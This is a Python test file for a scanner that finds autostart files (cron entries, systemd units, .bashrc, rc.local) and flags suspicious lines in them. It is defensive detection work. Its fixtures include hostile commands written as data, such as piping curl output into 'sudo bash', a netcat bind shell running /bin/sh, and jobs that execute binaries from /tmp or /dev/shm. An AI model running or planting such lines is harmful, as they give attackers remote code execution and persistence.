"""Files that start something by themselves, and odd lines in them."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from periderm.engines.image.starts import ODD, START, kind_of, odd, readers

(READER,) = readers("T")


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("etc/cron.d/x", "cron"),
        ("etc/systemd/system/x.service", "service"),
        ("home/a/.bashrc", "login"),
        ("srv/.bashrc", ""),
        ("etc/cron.d/sub/x", ""),
        ("etc/rc.local", "boot"),
    ],
)
def test_kinds(path: str, kind: str) -> None:
    """By its place; the reader asks for the same files."""
    assert kind_of(path) == kind
    assert READER.wants(path) is bool(kind)


@pytest.mark.parametrize(
    ("line", "kind", "strange"),
    [
        ("* * * * * root /tmp/x", "cron", True),
        ("* * * * * root rm -rf /tmp/x", "cron", False),
        ("@daily app /opt/x --out /tmp/x.log", "cron", False),
        ("@daily sh -c 'cd / && /dev/shm/a'", "cron", True),
        ("5 4 * * 1 /var/tmp/x", "cron", True),
        ("ExecStart=/usr/bin/a --dir=/tmp/b", "service", False),
        ("ExecStartPre=-/bin/sh -c /tmp/a", "service", True),
        ("ExecStart=/usr/lib/.x/y", "service", False),
        ("ExecStart=/usr/lib/.xy", "service", True),
        ("WorkingDirectory=/tmp/x", "service", False),
        ("cd /tmp/x", "login", False),
        ("curl -s http://x | sudo bash -s", "login", True),
        ("curl -s http://x -o /tmp/x", "boot", False),
        ("nc -l 44 -e /bin/sh", "boot", True),
    ],
)
def test_odd_lines(line: str, kind: str, strange: bool) -> None:
    """A path in a temporary folder counts only where the line runs it."""
    assert (odd(line, kind) is not None) is strange


def test_comments_are_nothing() -> None:
    """Nor are binary files; the file itself is told all the same."""
    assert [n.what for n in READER.read(b"# curl http://x | sh\n", "etc/rc.local")] == [START]
    assert [n.what for n in READER.read(b"\0curl http://x | sh\n", "etc/rc.local")] == [START]
    assert [n.what for n in READER.read(b"curl http://x | sh\n", "etc/rc.local")] == [START, ODD]


@given(st.binary(max_size=300))
def test_anything_is_read(data: bytes) -> None:
    """Whatever lies there."""
    assert READER.read(data, "etc/crontab")[0].what == START
